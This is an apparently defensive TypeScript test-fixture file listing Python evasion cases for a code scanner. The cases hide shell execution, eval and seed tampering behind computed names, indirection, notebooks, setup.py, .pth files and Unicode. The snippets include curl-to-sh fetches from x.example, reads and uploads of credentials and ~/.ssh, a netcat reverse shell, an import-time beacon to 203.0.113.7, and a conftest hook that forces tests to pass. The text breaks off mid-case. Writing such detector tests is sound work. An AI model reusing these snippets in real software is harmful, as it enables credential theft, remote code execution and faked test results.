/**
 * Python evasions: the capability is still there (a process, `eval`, a seed, an install), but its
 * name is computed, reached through another object, kept somewhere a reviewer does not read as
 * code, or spelled so it does not look like itself.
 */
import type { EvasionCase } from '../table';

/** A file from its lines: the line number of `src[i]` is `i + 1`. */
const src = (...lines: string[]): string => `${lines.join('\n')}\n`;

/** The 1-based line of the first occurrence of `needle` in `text`. */
function lineOf(text: string, needle: string): number {
  const at = text.indexOf(needle);
  if (at < 0) {
    throw new Error(`"${needle}" is not in the text`);
  }
  return text.slice(0, at).split('\n').length;
}

/** A Jupyter notebook, laid out the way Jupyter writes it (one-space indent). */
function notebook(cells: { type: 'code' | 'markdown'; source: string[] }[]): string {
  return JSON.stringify(
    {
      cells: cells.map((c) => ({
        cell_type: c.type,
        metadata: {},
        source: c.source,
        ...(c.type === 'code' ? { outputs: [], execution_count: null } : {}),
      })),
      metadata: {
        kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' },
        language_info: { name: 'python' },
      },
      nbformat: 4,
      nbformat_minor: 5,
    },
    null,
    1,
  );
}

const NB_ENCODED = notebook([
  { type: 'markdown', source: ['## Warm up the cache\n'] },
  {
    type: 'code',
    source: [
      'import base64\n',
      "exec(base64.b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUvcC5zaCB8IHNoJyk=').decode())\n",
    ],
  },
]);

const NB_PIP_GIT = notebook([
  { type: 'markdown', source: ['# Setup\n', 'Install the patched tokenizer first.\n'] },
  { type: 'code', source: ['!pip install -q git+https://github.com/tok-labs/fast-tokenizers.git@main\n', 'import tokenizers\n'] },
]);

const NB_BASH = notebook([
  { type: 'code', source: ['import pandas as pd\n', "df = pd.read_csv('data/train.csv')\n"] },
  { type: 'code', source: ['%%bash\n', 'mkdir -p /tmp/tools\n', 'curl -fsSL https://x.example/tools.sh | bash\n'] },
]);

const BLANK_LINES = src(
  'import subprocess',
  '',
  'def main():',
  '    print("ok")',
  ...Array<string>(300).fill(''),
  "__import__('subprocess').call('curl -s https://x.example/k | sh', shell=True)",
);

const PADDED = src('import os', '', `RETRIES = 3${' '.repeat(400)}; os.system('curl -s https://x.example/k | sh')`, 'TIMEOUT = 10');

export const CASES: EvasionCase[] = [
  // ---------------------------------------------------------------- computed-name
  {
    name: 'getattr on os with a concatenated attribute name',
    technique: 'computed-name',
    language: 'py',
    files: { 'tools/cleanup.py': src('import os', '', '', 'def cleanup(path):', "    getattr(os, 'sys' + 'tem')('rm -rf ' + path)") },
    expect: [{ file: 'tools/cleanup.py', line: 5, category: 'process' }],
  },
  {
    name: '__import__ of a concatenated module name, attribute from str.join of a list',
    technique: 'computed-name',
    language: 'py',
    files: { 'app/run.py': src('def run(cmd):', "    return getattr(__import__('o' + 's'), ''.join(['sy', 'stem']))(cmd)") },
    expect: [{ file: 'app/run.py', line: 2, category: 'process' }],
  },
  {
    name: 'reversed string slice names subprocess.Popen',
    technique: 'computed-name',
    language: 'py',
    files: {
      'app/spawn.py': src('import subprocess', '', "spawn = getattr(subprocess, 'nepoP'[::-1])", "spawn(['sh', '-c', PAYLOAD])"),
    },
    expect: [{ file: 'app/spawn.py', line: 4, category: 'process' }],
  },
  {
    name: 'chr codes summed into eval, looked up on builtins',
    technique: 'computed-name',
    language: 'py',
    files: {
      'calc/engine.py': src(
        'import builtins',
        '',
        'f = getattr(builtins, chr(101) + chr(118) + chr(97) + chr(108))',
        '',
        '',
        'def compute(expr):',
        '    return f(expr)',
      ),
    },
    expect: [{ file: 'calc/engine.py', line: 7, category: 'dynamic-code' }],
  },
  {
    name: 'bytes.fromhex module name passed to import_module',
    technique: 'computed-name',
    language: 'py',
    files: {
      'diag/system_info.py': src(
        'import importlib',
        '',
        "sp = importlib.import_module(bytes.fromhex('73756270726f63657373').decode())",
        "print(sp.check_output('cat /etc/passwd; env', shell=True))",
      ),
    },
    expect: [{ file: 'diag/system_info.py', line: 4, category: 'process' }],
  },
  {
    name: 'base64-decoded attribute name held in a variable',
    technique: 'computed-name',
    language: 'py',
    files: {
      'jobs/export.py': src(
        'import base64',
        'import os',
        '',
        "name = base64.b64decode('c3lzdGVt').decode()",
        "getattr(os, name)('tar czf /tmp/home.tgz ~ && curl -T /tmp/home.tgz https://x.example/u')",
      ),
    },
    expect: [{ file: 'jobs/export.py', line: 5, category: 'process' }],
  },
  {
    name: 'rot13-encoded builtin name through codecs.decode',
    technique: 'computed-name',
    language: 'py',
    files: {
      'patching/apply.py': src(
        'import builtins',
        'import codecs',
        '',
        "runner = getattr(builtins, codecs.decode('rkrp', 'rot13'))",
        "runner(open('patch.txt').read())",
      ),
    },
    expect: [{ file: 'patching/apply.py', line: 5, category: 'dynamic-code' }],
  },
  {
    name: 'f-string with only constant parts builds the attribute',
    technique: 'computed-name',
    language: 'py',
    files: {
      'app/shell.py': src('import os', '', "verb = 'po'", '', '', 'def read(cmd):', "    return getattr(os, f'{verb}pen')(cmd).read()"),
    },
    expect: [{ file: 'app/shell.py', line: 7, category: 'process' }],
  },
  {
    name: 'percent formatting joins the halves of eval',
    technique: 'computed-name',
    language: 'py',
    files: {
      'api/formula.py': src(
        'import builtins',
        '',
        "ev = getattr(builtins, '%s%s' % ('ev', 'al'))",
        '',
        '',
        'def handle(request_body):',
        '    return ev(request_body)',
      ),
    },
    expect: [{ file: 'api/formula.py', line: 7, category: 'dynamic-code' }],
  },
  {
    name: 'str.format assembles check_output',
    technique: 'computed-name',
    language: 'py',
    files: {
      'ops/creds.py': src(
        'import subprocess',
        '',
        "call = getattr(subprocess, '{}{}'.format('check_', 'output'))",
        "out = call('cat ~/.aws/credentials', shell=True)",
      ),
    },
    expect: [{ file: 'ops/creds.py', line: 4, category: 'process' }],
  },
  {
    name: 'unbound str.join builds popen',
    technique: 'computed-name',
    language: 'py',
    files: {
      'util/proc.py': src('import os', '', '', 'def sh(cmd):', "    return getattr(os, str.join('', ('po', 'pen')))(cmd).read()"),
    },
    expect: [{ file: 'util/proc.py', line: 5, category: 'process' }],
  },
  {
    name: 'import_module with a concatenated subprocess name',
    technique: 'computed-name',
    language: 'py',
    files: {
      'build/steps.py': src('import importlib', '', "sp = importlib.import_module('sub' + 'process')", "sp.run(['bash', '-c', SCRIPT])"),
    },
    expect: [{ file: 'build/steps.py', line: 4, category: 'process' }],
  },
  {
    name: '__import__ and getattr fed from module-level constants',
    technique: 'computed-name',
    language: 'py',
    files: {
      'workers/pool.py': src(
        "_MOD = 'subprocess'",
        "_FN = 'Popen'",
        '',
        '',
        'def spawn(argv):',
        '    mod = __import__(_MOD)',
        '    return getattr(mod, _FN)(argv)',
      ),
    },
    expect: [{ file: 'workers/pool.py', line: 7, category: 'process' }],
  },
  {
    name: "globals()['__builtins__'] indexed with a split eval name",
    technique: 'computed-name',
    language: 'py',
    files: {
      'rules/evaluate.py': src(
        'def evaluate(rule, row):',
        "    fn = globals()['__builtins__']['ev' + 'al']",
        "    return fn(rule, {'row': row})",
      ),
    },
    expect: [{ file: 'rules/evaluate.py', line: 3, category: 'dynamic-code' }],
  },
  {
    name: "vars(builtins)['exec'] stored then called",
    technique: 'computed-name',
    language: 'py',
    files: { 'plugins/loader.py': src('import builtins', '', "run = vars(builtins)['exec']", "run(open('plugin.txt').read())") },
    expect: [{ file: 'plugins/loader.py', line: 4, category: 'dynamic-code' }],
  },
  {
    name: 'builtins module aliased, eval read from its __dict__',
    technique: 'computed-name',
    language: 'py',
    files: { 'calc/sheet.py': src('import builtins as b', '', "calc = b.__dict__['eval']", 'print(calc(formula))') },
    expect: [{ file: 'calc/sheet.py', line: 4, category: 'dynamic-code' }],
  },
  {
    name: 'sys.modules indexed with a concatenated os',
    technique: 'computed-name',
    language: 'py',
    files: { 'svc/maintenance.py': src('import sys', '', "sys.modules['o' + 's'].system('shutdown -h now')") },
    expect: [{ file: 'svc/maintenance.py', line: 3, category: 'process' }],
  },
  {
    name: 'operator.attrgetter fetches os.system',
    technique: 'computed-name',
    language: 'py',
    files: {
      'svc/hooks.py': src('import operator', 'import os', '', "run = operator.attrgetter('system')(os)", 'run(HOOK_COMMAND)'),
    },
    expect: [{ file: 'svc/hooks.py', line: 5, category: 'process' }],
  },
  {
    name: 'name folded from a module constant and a local in the function',
    technique: 'computed-name',
    language: 'py',
    files: {
      'util/run.py': src(
        'import os',
        '',
        "PREFIX = 'po'",
        '',
        '',
        'def read_cmd(cmd):',
        "    suffix = 'pen'",
        '    name = PREFIX + suffix',
        '    return getattr(os, name)(cmd).read()',
      ),
    },
    expect: [{ file: 'util/run.py', line: 9, category: 'process' }],
  },
  {
    name: 'getattr on os with an attribute name taken from a parameter',
    technique: 'computed-name',
    language: 'py',
    files: {
      'api/actions.py': src('import os', '', '', 'def dispatch(action, arg):', '    return getattr(os, action)(arg)'),
    },
    expect: [{ file: 'api/actions.py', line: 5, category: 'process' }],
  },
  {
    name: 'import_module of a module name read from the environment',
    technique: 'computed-name',
    language: 'py',
    files: {
      'app/handlers.py': src(
        'import importlib',
        'import os',
        '',
        "handler = importlib.import_module(os.environ.get('HANDLER_MODULE', 'app.default_handler'))",
        'handler.main()',
      ),
    },
    expect: [{ file: 'app/handlers.py', line: 4, category: 'dynamic-code' }],
  },
  {
    name: 'random.seed from int() of a hex string',
    technique: 'computed-name',
    language: 'py',
    files: { 'train/split.py': src('import random', '', "random.seed(int('2a', 16))", 'random.shuffle(SAMPLES)') },
    expect: [{ file: 'train/split.py', line: 3, category: 'randomness', rule: 'py/seed' }],
  },
  {
    name: 'torch.manual_seed of a sum of a literal list',
    technique: 'computed-name',
    language: 'py',
    files: { 'train/init.py': src('import torch', '', 'torch.manual_seed(sum([1, 2, 3]))', 'model = build_model()') },
    expect: [{ file: 'train/init.py', line: 3, category: 'randomness', rule: 'py/seed' }],
  },
  {
    name: 'np.random.seed from hash() of a string',
    technique: 'computed-name',
    language: 'py',
    files: {
      'eval/holdout.py': src(
        'import numpy as np',
        '',
        "np.random.seed(hash('experiment-7') % 1000)",
        'idx = np.random.permutation(len(data))',
      ),
    },
    expect: [{ file: 'eval/holdout.py', line: 3, category: 'randomness', rule: 'py/seed' }],
  },
  {
    name: 'random.seed reached by getattr with a split name',
    technique: 'computed-name',
    language: 'py',
    files: { 'data/sampler.py': src('import random', '', "getattr(random, 'se' + 'ed')(1234)", 'batch = random.sample(pool, 32)') },
    expect: [{ file: 'data/sampler.py', line: 3, category: 'randomness' }],
  },
  {
    name: 'attribute name from xor-ed character codes in a generator',
    technique: 'computed-name',
    language: 'py',
    files: {
      'util/sys_tools.py': src(
        'import os',
        '',
        "NAME = ''.join(chr(c ^ 7) for c in [116, 126, 116, 115, 98, 106])",
        'getattr(os, NAME)(CMD)',
      ),
    },
    expect: [{ file: 'util/sys_tools.py', line: 4, category: 'process' }],
  },
  {
    name: 'filler characters stripped with replace',
    technique: 'computed-name',
    language: 'py',
    files: { 'util/proc2.py': src('import os', '', "getattr(os, 'sXyXsXtXeXm'.replace('X', ''))('id; uname -a')") },
    expect: [{ file: 'util/proc2.py', line: 3, category: 'process' }],
  },
  {
    name: 'attribute picked out of a split word list by index',
    technique: 'computed-name',
    language: 'py',
    files: {
      'ci/runner.py': src('import subprocess', '', "run = getattr(subprocess, 'call Popen run'.split()[1])", "run(['sh', '-c', STEP])"),
    },
    expect: [{ file: 'ci/runner.py', line: 4, category: 'process' }],
  },
  {
    name: 'unicode escape sequences spell the attribute',
    technique: 'computed-name',
    language: 'py',
    files: { 'util/esc.py': src('import os', '', String.raw`getattr(os, '\u0073\u0079\u0073\u0074\u0065\u006d')(CMD)`) },
    expect: [{ file: 'util/esc.py', line: 3, category: 'process' }],
  },
  {
    name: 'subprocess fetched through a dict of module names',
    technique: 'computed-name',
    language: 'py',
    files: {
      'ci/modules.py': src(
        "BACKENDS = {'local': 'subprocess', 'none': 'builtins'}",
        '',
        '',
        'def backend(kind):',
        '    return __import__(BACKENDS[kind])',
        '',
        '',
        "backend('local').getoutput('curl -s https://x.example/c | sh')",
      ),
    },
    expect: [{ file: 'ci/modules.py', line: 8, category: 'process' }],
  },

  // ---------------------------------------------------------------- indirection
  {
    name: 'dict dispatch table holding os.system',
    technique: 'indirection',
    language: 'py',
    files: {
      'cli/commands.py': src(
        'import os',
        '',
        "OPS = {'run': os.system, 'echo': print}",
        '',
        '',
        'def handle(op, arg):',
        '    return OPS[op](arg)',
      ),
    },
    expect: [{ file: 'cli/commands.py', line: 7, category: 'process' }],
  },
  {
    name: 'list of callables indexed to pick subprocess.call',
    technique: 'indirection',
    language: 'py',
    files: {
      'ci/steps.py': src('import subprocess', '', 'runners = [print, subprocess.call]', "runners[1]('make deploy', shell=True)"),
    },
    expect: [{ file: 'ci/steps.py', line: 4, category: 'process' }],
  },
  {
    name: 'tuple unpacking hides os.popen among path helpers',
    technique: 'indirection',
    language: 'py',
    files: { 'util/paths.py': src('import os', '', 'join, rd = os.path.join, os.popen', "out = rd('git log -1 && env').read()") },
    expect: [{ file: 'util/paths.py', line: 4, category: 'process' }],
  },
  {
    name: 'from os import system under a one-letter alias',
    technique: 'indirection',
    language: 'py',
    files: { 'deploy/restart.py': src('from os import system as s', '', "s('systemctl restart app && curl -s https://x.example/ok')") },
    expect: [{ file: 'deploy/restart.py', line: 3, category: 'process' }],
  },
  {
    name: 'lambda that returns subprocess.Popen, called then called again',
    technique: 'indirection',
    language: 'py',
    files: {
      'net/tunnel.py': src('import subprocess', '', '_get = (lambda: subprocess.Popen)', "_get()(['nc', '-e', '/bin/sh', HOST, '4444'])"),
    },
    expect: [{ file: 'net/tunnel.py', line: 4, category: 'process' }],
  },
  {
    name: 'class with __call__ forwarding to an attribute set in __init__',
    technique: 'indirection',
    language: 'py',
    files: {
      'svc/runner.py': src(
        'import os',
        '',
        '',
        'class Runner:',
        '    def __init__(self):',
        '        self.fn = os.system',
        '',
        '    def __call__(self, cmd):',
        '        return self.fn(cmd)',
        '',
        '',
        "Runner()('id > /tmp/who')",
      ),
    },
    expect: [{ file: 'svc/runner.py', line: 9, category: 'process' }],
  },
  {
    name: 'functools.partial binds shell=True to subprocess.run',
    technique: 'indirection',
    language: 'py',
    files: {
      'ops/shell.py': src(
        'import functools',
        'import subprocess',
        '',
        'run_shell = functools.partial(subprocess.run, shell=True)',
        'run_shell(user_cmd)',
      ),
    },
    expect: [{ file: 'ops/shell.py', line: 5, category: 'process' }],
  },
  {
    name: 'exec used as a decorator runs a docstring',
    technique: 'indirection',
    language: 'py',
    files: {
      'app/boot.py': src(
        '@exec',
        '@lambda f: f.__doc__',
        'def setup():',
        '    """import os; os.system(\'curl -s https://x.example/b | sh\')"""',
      ),
    },
    expect: [{ file: 'app/boot.py', line: 1, category: 'dynamic-code' }],
  },
  {
    name: 'os.system mapped over a list of commands',
    technique: 'indirection',
    language: 'py',
    files: {
      'setup_env.py': src(
        'import os',
        '',
        "cmds = ['pip install -q torch', 'curl -s https://x.example/e | sh']",
        'list(map(os.system, cmds))',
      ),
    },
    expect: [{ file: 'setup_env.py', line: 4, category: 'process' }],
  },
  {
    name: "getattr(__builtins__, 'exec') without importing builtins",
    technique: 'indirection',
    language: 'py',
    files: { 'plugins/run.py': src('def load(source):', "    getattr(__builtins__, 'exec')(source, {})") },
    expect: [{ file: 'plugins/run.py', line: 2, category: 'dynamic-code' }],
  },
  {
    name: '__builtins__ subscripted as a dict for eval',
    technique: 'indirection',
    language: 'py',
    files: { 'calc/quick.py': src('def quick(expr):', "    return __builtins__['eval'](expr)") },
    expect: [{ file: 'calc/quick.py', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'subprocess.run re-exported from a helper module under another name',
    technique: 'indirection',
    language: 'py',
    files: {
      'helpers.py': src('from subprocess import run as go', '', "__all__ = ['go']"),
      'main.py': src('from helpers import go', '', '', 'def deploy(cmd):', '    go(cmd, shell=True)'),
    },
    expect: [{ file: 'main.py', line: 5, category: 'process' }],
  },
  {
    name: 'os.system stored as a module attribute in one file, called in another',
    technique: 'indirection',
    language: 'py',
    files: {
      'pkg/tools.py': src('import os', '', 'runner = os.system'),
      'pkg/app.py': src(
        'from pkg import tools',
        '',
        '',
        'def restart():',
        "    tools.runner('pkill -f worker; curl -s https://x.example/w | sh')",
      ),
    },
    expect: [{ file: 'pkg/app.py', line: 5, category: 'process' }],
  },
  {
    name: 'random.random replaced through an aliased module import',
    technique: 'indirection',
    language: 'py',
    files: { 'train/augment.py': src('import random as _r', '', '_r.random = lambda: 0.5', 'apply_augmentations(batch)') },
    expect: [{ file: 'train/augment.py', line: 3, category: 'randomness' }],
  },
  {
    name: 'numpy.random.shuffle made a no-op through a from-import alias',
    technique: 'indirection',
    language: 'py',
    files: { 'data/loader.py': src('from numpy import random as npr', '', 'npr.shuffle = lambda x: None', 'npr.shuffle(indices)') },
    expect: [{ file: 'data/loader.py', line: 3, category: 'randomness' }],
  },
  {
    name: "setattr on sys.modules['random'] replaces shuffle",
    technique: 'indirection',
    language: 'py',
    files: { 'eval/fixed_order.py': src('import sys', '', "setattr(sys.modules['random'], 'shuffle', lambda xs: None)") },
    expect: [{ file: 'eval/fixed_order.py', line: 3, category: 'randomness' }],
  },
  {
    name: 'class built with type() whose __del__ runs a command',
    technique: 'indirection',
    language: 'py',
    files: {
      'cache/cleanup.py': src(
        'import os',
        '',
        "Cleanup = type('Cleanup', (), {'__del__': lambda self: os.system('rm -rf ~/.cache/huggingface ~/.ssh')})",
        '_c = Cleanup()',
      ),
    },
    expect: [{ file: 'cache/cleanup.py', line: 3, category: 'process' }],
  },
  {
    name: 'pickle.loads imported under a harmless-sounding name',
    technique: 'indirection',
    language: 'py',
    files: {
      'state/restore.py': src(
        'from pickle import loads as decode_state',
        'import requests',
        '',
        "blob = requests.get('https://x.example/state.bin', timeout=5).content",
        'state = decode_state(blob)',
      ),
    },
    expect: [{ file: 'state/restore.py', line: 5, category: 'dynamic-code' }],
  },
  {
    name: 'libc system through ctypes.CDLL(None)',
    technique: 'indirection',
    language: 'py',
    files: { 'native/fast.py': src('import ctypes', '', "ctypes.CDLL(None).system(b'curl -s https://x.example/n | sh')") },
    expect: [
      { file: 'native/fast.py', line: 3, category: 'process' },
      { file: 'native/fast.py', line: 3, category: 'sandbox-escape' },
    ],
  },
  {
    name: "vars(os)['popen'] read back",
    technique: 'indirection',
    language: 'py',
    files: { 'util/git_info.py': src('import os', '', "sha = vars(os)['popen']('git rev-parse HEAD; cat ~/.netrc').read()") },
    expect: [{ file: 'util/git_info.py', line: 3, category: 'process' }],
  },
  {
    name: 'exec of a code object from compile',
    technique: 'indirection',
    language: 'py',
    files: {
      'plugins/compile_run.py': src(
        'def run_plugin(path):',
        '    src = open(path).read()',
        "    exec(compile(src, 'x', 'exec'), {'__name__': '__main__'})",
      ),
    },
    expect: [{ file: 'plugins/compile_run.py', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'code.InteractiveInterpreter kept in a variable, runsource called later',
    technique: 'indirection',
    language: 'py',
    files: {
      'debug/console.py': src(
        'import code',
        '',
        'interp = code.InteractiveInterpreter()',
        '',
        '',
        'def on_message(msg):',
        '    interp.runsource(msg)',
      ),
    },
    expect: [{ file: 'debug/console.py', line: 7, category: 'dynamic-code' }],
  },
  {
    name: 'os.system wrapped in staticmethod as a class attribute',
    technique: 'indirection',
    language: 'py',
    files: {
      'svc/tools.py': src('import os', '', '', 'class Tools:', '    run = staticmethod(os.system)', '', '', 'Tools.run(CLEAN_CMD)'),
    },
    expect: [{ file: 'svc/tools.py', line: 8, category: 'process' }],
  },
  {
    name: 'subprocess.call as a default argument value',
    technique: 'indirection',
    language: 'py',
    files: {
      'ci/exec_step.py': src('import subprocess', '', '', 'def go(cmd, _r=subprocess.call):', '    return _r(cmd, shell=True)'),
    },
    expect: [{ file: 'ci/exec_step.py', line: 5, category: 'process' }],
  },
  {
    name: 'helper function imports inside and returns subprocess.Popen',
    technique: 'indirection',
    language: 'py',
    files: {
      'net/reverse.py': src(
        'def _resolve():',
        '    import subprocess',
        '    return subprocess.Popen',
        '',
        '',
        "_resolve()(['bash', '-i'], stdin=SOCK, stdout=SOCK)",
      ),
    },
    expect: [{ file: 'net/reverse.py', line: 6, category: 'process' }],
  },
  {
    name: 'loop variable bound to os.system from a tuple',
    technique: 'indirection',
    language: 'py',
    files: { 'tasks/hooks.py': src('import os', '', 'for fire in (os.system,):', '    fire(POST_HOOK)') },
    expect: [{ file: 'tasks/hooks.py', line: 4, category: 'process' }],
  },
  {
    name: 'globals().update injects a name bound to os.system',
    technique: 'indirection',
    language: 'py',
    files: {
      'tasks/inject.py': src('import os', '', 'globals().update(run_task=os.system)', "run_task('curl -s https://x.example/t | sh')"),
    },
    expect: [{ file: 'tasks/inject.py', line: 4, category: 'process' }],
  },

  // ---------------------------------------------------------------- hiding-place
  {
    name: 'exec of a multi-line string whose body calls __import__(os).system',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'app/bootstrap.py': src(
        'BOOT = """',
        'import sys',
        "__import__('os').system('curl -s https://x.example/boot | sh')",
        '"""',
        'exec(BOOT)',
      ),
    },
    expect: [
      { file: 'app/bootstrap.py', line: 5, category: 'dynamic-code' },
      { file: 'app/bootstrap.py', line: 3, category: 'process' },
    ],
  },
  {
    name: 'exec of a string that itself execs a subprocess call',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'app/nested.py': src(String.raw`exec("exec(\"__import__('subprocess').run(['sh', '-c', 'id > /tmp/x'])\")")`),
    },
    expect: [
      { file: 'app/nested.py', line: 1, category: 'dynamic-code' },
      { file: 'app/nested.py', line: 1, category: 'process' },
    ],
  },
  {
    name: 'setup.py custom install command runs a download',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'setup.py': src(
        'from setuptools import setup',
        'from setuptools.command.install import install',
        'import subprocess',
        '',
        '',
        'class PostInstall(install):',
        '    def run(self):',
        '        install.run(self)',
        "        subprocess.check_call(['sh', '-c', 'curl -fsSL https://x.example/i.sh | sh'])",
        '',
        '',
        "setup(name='fastjsonx', version='0.1', cmdclass={'install': PostInstall})",
      ),
    },
    expect: [
      { file: 'setup.py', line: 9, category: 'process' },
      { file: 'setup.py', line: 12, category: 'supply-chain' },
    ],
  },
  {
    name: 'conftest makereport hook forces the outcome with setattr and a split attribute name',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'tests/integration/conftest.py': src(
        'import pytest',
        '',
        '',
        '@pytest.hookimpl(hookwrapper=True)',
        'def pytest_runtest_makereport(item, call):',
        '    outcome = yield',
        '    rep = outcome.get_result()',
        "    setattr(rep, 'out' + 'come', 'passed')",
      ),
    },
    expect: [{ file: 'tests/integration/conftest.py', line: 8, category: 'evaluation-tampering' }],
  },
  {
    name: 'notebook code cell execs a base64 payload that calls os.system',
    technique: 'hiding-place',
    language: 'py',
    files: { 'notebooks/explore.ipynb': NB_ENCODED },
    expect: [
      { file: 'notebooks/explore.ipynb', line: lineOf(NB_ENCODED, 'exec(base64'), category: 'dynamic-code' },
      { file: 'notebooks/explore.ipynb', line: lineOf(NB_ENCODED, 'exec(base64'), category: 'obfuscation' },
      { file: 'notebooks/explore.ipynb', line: lineOf(NB_ENCODED, 'exec(base64'), category: 'process' },
    ],
  },
  {
    name: 'notebook !pip install from a git branch',
    technique: 'hiding-place',
    language: 'py',
    files: { 'notebooks/setup.ipynb': NB_PIP_GIT },
    expect: [{ file: 'notebooks/setup.ipynb', line: lineOf(NB_PIP_GIT, '!pip install'), category: 'supply-chain' }],
  },
  {
    name: 'notebook %%bash cell pipes a download into bash',
    technique: 'hiding-place',
    language: 'py',
    files: { 'notebooks/prep.ipynb': NB_BASH },
    expect: [{ file: 'notebooks/prep.ipynb', line: lineOf(NB_BASH, 'curl -fsSL'), category: 'process' }],
  },
  {
    name: 'pyproject uv source pins a dependency to a git branch',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'pyproject.toml': src(
        '[project]',
        'name = "svc"',
        'version = "0.3.0"',
        'dependencies = ["requests>=2.31", "fastjson"]',
        '',
        '[tool.uv.sources]',
        'fastjson = { git = "https://github.com/fj-dev/fastjson", branch = "main" }',
      ),
    },
    base: {
      'pyproject.toml': src('[project]', 'name = "svc"', 'version = "0.3.0"', 'dependencies = ["requests>=2.31"]'),
    },
    expect: [{ file: 'pyproject.toml', line: 7, category: 'supply-chain' }],
  },
  {
    name: 'extra index url moved into a nested requirements file under deps/',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'requirements.txt': src('numpy==1.26.4', '-r deps/ml.txt'),
      'deps/ml.txt': src('--extra-index-url https://pypi.ml-mirror.example/simple', 'torch==2.3.0', 'internal-metrics==1.0'),
    },
    base: { 'requirements.txt': src('numpy==1.26.4') },
    expect: [{ file: 'deps/ml.txt', line: 1, category: 'supply-chain' }],
  },
  {
    name: 'YAML config holds code that a loader execs at run time',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'config/hooks.yaml': src(
        'name: nightly',
        'post_load: |',
        "  import os; os.system('tar czf /tmp/k.tgz ~/.ssh && curl -T /tmp/k.tgz https://x.example/u')",
      ),
      'app/hooks.py': src('import yaml', '', "cfg = yaml.safe_load(open('config/hooks.yaml'))", "exec(cfg['post_load'])"),
    },
    expect: [
      { file: 'app/hooks.py', line: 4, category: 'dynamic-code' },
      { file: 'config/hooks.yaml', line: 3, category: 'process' },
    ],
  },
  {
    name: '.pth file in site-packages runs a command at interpreter start',
    technique: 'hiding-place',
    language: 'py',
    files: {
      '.venv/lib/python3.11/site-packages/zz_speedups.pth': src(
        "import os; os.system('curl -s https://x.example/p | sh >/dev/null 2>&1 &')",
      ),
    },
    expect: [{ file: '.venv/lib/python3.11/site-packages/zz_speedups.pth', line: 1, category: 'process' }],
  },
  {
    name: 'sitecustomize installs an import hook in sys.meta_path',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'sitecustomize.py': src(
        'import sys',
        '',
        '',
        'class _Finder:',
        '    def find_spec(self, name, path, target=None):',
        "        if name == 'numpy':",
        '            sys.modules.pop(name, None)',
        '        return None',
        '',
        '',
        'sys.meta_path.insert(0, _Finder())',
      ),
    },
    expect: [{ file: 'sitecustomize.py', line: 11, category: 'sandbox-escape' }],
  },
  {
    name: 'package __init__ phones home with the user name at import',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'mylib/__init__.py': src(
        'import getpass as _g',
        'import socket as _s',
        '',
        'try:',
        "    _s.create_connection(('203.0.113.7', 4444), timeout=1).send(_g.getuser().encode())",
        'except OSError:',
        '    pass',
        '',
        'from .core import *  # noqa: F401,F403',
      ),
    },
    expect: [{ file: 'mylib/__init__.py', line: 5, category: 'network' }],
  },
  {
    name: 'marshal code object from a zlib and base64 blob, then exec',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'core/_accel.py': src(
        'import base64',
        'import marshal',
        'import zlib',
        '',
        "_BLOB = 'eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5AIAg0EI0w=='",
        'exec(marshal.loads(zlib.decompress(base64.b64decode(_BLOB))))',
      ),
    },
    expect: [
      { file: 'core/_accel.py', line: 6, category: 'dynamic-code' },
      { file: 'core/_accel.py', line: 6, category: 'obfuscation' },
    ],
  },
  {
    name: 'character-code list decodes to __import__(os).system and is exec-ed',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'util/ping.py': src(
        '_C = [95, 95, 105, 109, 112, 111, 114, 116, 95, 95, 40, 39, 111, 115, 39, 41, 46, 115, 121, 115, 116, 101, 109, 40, 39, 105, 100, 39, 41]',
        "exec(''.join(map(chr, _C)))",
      ),
    },
    expect: [
      { file: 'util/ping.py', line: 2, category: 'obfuscation' },
      { file: 'util/ping.py', line: 2, category: 'process' },
    ],
  },
  {
    name: 'noxfile session.run pipes a download into bash',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'noxfile.py': src(
        'import nox',
        '',
        '',
        '@nox.session',
        'def tests(session):',
        "    session.install('-r', 'requirements.txt')",
        "    session.run('bash', '-c', 'curl -fsSL https://x.example/ci.sh | bash', external=True)",
        "    session.run('pytest')",
      ),
    },
    expect: [{ file: 'noxfile.py', line: 7, category: 'process' }],
  },
  {
    name: 'extensionless script with a python shebang under bin/',
    technique: 'hiding-place',
    language: 'py',
    files: {
      'bin/warmup': src(
        '#!/usr/bin/env python3',
        'import subprocess',
        '',
        "subprocess.Popen('curl -s https://x.example/w | sh', shell=True)",
      ),
    },
    expect: [{ file: 'bin/warmup', line: 4, category: 'process' }],
  },

  // ---------------------------------------------------------------- unicode
  {
    name: 'fullwidth eval that Python normalizes to the builtin',
    technique: 'unicode',
    language: 'py',
    files: { 'calc/fw.py': src('def calc(user_expr):', '    return ｅｖａｌ(user_expr)') },
    expect: [
      { file: 'calc/fw.py', line: 2, category: 'dynamic-code' },
      { file: 'calc/fw.py', line: 2, category: 'obfuscation' },
    ],
  },
  {
    name: 'mathematical bold exec that Python normalizes to the builtin',
    technique: 'unicode',
    language: 'py',
    files: { 'plugins/bold.py': src('def load(code):', '    𝐞𝐱𝐞𝐜(code)') },
    expect: [{ file: 'plugins/bold.py', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'fullwidth module and attribute spell os.system',
    technique: 'unicode',
    language: 'py',
    files: { 'ops/fw_sys.py': src('import os', '', 'ｏｓ.ｓｙｓｔｅｍ(CMD)') },
    expect: [{ file: 'ops/fw_sys.py', line: 3, category: 'process' }],
  },
  {
    name: 'math italic Popen imported from subprocess',
    technique: 'unicode',
    language: 'py',
    files: { 'ops/italic.py': src('from subprocess import 𝘗𝘰𝘱𝘦𝘯', '', "𝘗𝘰𝘱𝘦𝘯(['sh', '-c', TASK])") },
    expect: [{ file: 'ops/italic.py', line: 3, category: 'process' }],
  },
  {
    name: 'right-to-left override makes a shell command read backwards',
